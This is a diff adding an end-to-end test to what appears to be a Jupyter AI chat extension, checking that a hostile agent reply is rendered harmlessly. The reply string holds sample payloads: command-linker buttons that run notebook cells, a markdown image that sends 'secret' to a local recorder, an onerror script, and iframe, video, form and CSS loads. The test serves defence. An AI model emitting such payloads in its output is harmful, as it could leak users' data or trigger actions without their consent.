@@ -6,8 +6,10 @@ server as subprocesses; the MCP tools, approval cards and reviews are the real o
 
 from __future__ import annotations
 
+import http.server
 import json
 import sys
+import threading
 from pathlib import Path
 from typing import Any
 
@@ -217,6 +219,58 @@ async def test_an_agents_shell_command_is_a_card_with_the_exact_command(
         await chat.idle()
         output = lab.page.locator(".jp-Copilot-ToolCard .jp-Copilot-ToolCardOutput")
         assert await output.first.text_content() == "rows: 30\ntemperatures.csv\n"
+
+
+async def test_a_hostile_reply_can_neither_run_commands_nor_load_anything(
+    lab_server, jp_fetch, log: Path
+) -> None:
+    hits: list[str] = []
+
+    class Recorder(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
+            hits.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args: Any) -> None:
+            return
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    base = f"http://127.0.0.1:{server.server_address[1]}"
+    reply = (
+        '<button data-commandlinker-command="notebook:run-all-cells">Show the diff</button> '
+        f'<a data-commandlinker-command="console:inject" href="#">Inject</a> '
+        f"![chart]({base}/leak?d=secret) <img src='{base}/img' onerror='alert(1)'> "
+        f"<iframe src='{base}/frame'></iframe> <video src='{base}/video'></video> "
+        f"<form action='{base}/form'><input value='x'></form> "
+        f"<span style='background:url({base}/css)'>styled</span> [docs](https://example.org)"
+    )
+    try:
+        async with lab_page(lab_server) as lab:
+            chat = Chat(lab)
+            await chat.root.wait_for(state="visible")
+            await chat.choose_agent("scripted", chat_only=True)
+            await chat.send(f"reply {reply}")
+            await chat.idle()
+            await lab.page.wait_for_timeout(1000)
+            rendered = lab.page.locator(".jp-Copilot-Reply").last
+            html = await rendered.inner_html()
+            assert "Show the diff" in html and "styled" in html
+            for forbidden in ("[data-commandlinker-command]", "img", "iframe", "video", "form"):
+                assert await rendered.locator(forbidden).count() == 0, (forbidden, html)
+            assert await rendered.locator("button, input, [onerror], [style]").count() == 0
+            # The image is a plain link now: nothing loads until the person clicks it.
+            link = rendered.locator(f"a[href='{base}/leak?d=secret']")
+            assert await link.inner_text() == "[chart]"
+            assert await rendered.locator("a[href='https://example.org']").count() == 1
+            assert hits == []
+            # A press on what was a command button runs nothing.
+            await rendered.get_by_text("Show the diff").click()
+            await lab.page.wait_for_timeout(300)
+            assert await lab.page.locator(".jp-Notebook").count() == 0
+    finally:
+        server.shutdown()
 
 
 async def _file_is(path: Path, text: str) -> bool:
